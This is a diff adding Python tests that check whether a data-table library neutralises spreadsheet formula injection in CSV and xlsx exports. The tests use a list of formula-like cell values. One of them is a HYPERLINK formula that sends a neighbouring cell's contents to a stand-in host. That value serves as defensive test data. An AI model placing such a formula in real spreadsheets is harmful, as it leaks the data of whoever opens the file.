@@ -185,3 +185,33 @@ def test_any_mix_of_utf8_and_cp1252_lines_keeps_every_row_and_its_text(tmp_path,
     path.write_bytes(b"comment\n" + b"\n".join(lines) + b"\n")
     frame = read_table(path, dtype_str=True)
     assert frame["comment"].tolist() == expected
+
+
+FORMULAS = ["=1+1", '=HYPERLINK("http://example.org/?leak="&A2,"click")', "+44 7700 900123", "-5 stars", "@SUM(A1)"]
+
+
+def test_a_csv_for_a_spreadsheet_runs_no_formula_and_a_data_csv_keeps_the_text(tmp_path):
+    import io
+
+    from carelens.tables import csv_bytes
+
+    frame = pd.DataFrame({"comment": [*FORMULAS, "fine"], "score": [-1, 2, 3, 4, 5, 6]})
+    shown = pd.read_csv(io.BytesIO(csv_bytes(frame)), dtype=str, encoding="utf-8-sig")
+    assert shown["comment"].tolist() == [f"'{f}" for f in FORMULAS] + ["fine"]
+    assert shown["score"].tolist()[0] == "-1"  # numbers are not text: left as they are
+    people = read_table(write_table(frame, tmp_path / "people.csv", for_spreadsheet=True), dtype_str=True)
+    assert people["comment"].tolist()[:5] == [f"'{f}" for f in FORMULAS]
+    data = read_table(write_table(frame, tmp_path / "data.csv"), dtype_str=True)
+    assert data["comment"].tolist() == [*FORMULAS, "fine"]
+
+
+def test_an_xlsx_holds_formula_like_text_as_text_and_control_characters_do_not_fail_it(tmp_path):
+    import openpyxl
+
+    frame = pd.DataFrame({"comment": [*FORMULAS, "bell\x07 and NUL\x00"]})
+    path = write_table(frame, tmp_path / "out.xlsx")
+    sheet = openpyxl.load_workbook(path).active
+    cells = [sheet.cell(row=i + 2, column=1) for i in range(len(frame))]
+    assert all(c.data_type == "s" for c in cells)
+    assert [c.value for c in cells[:5]] == FORMULAS
+    assert cells[5].value == "bell\ufffd and NUL\ufffd"
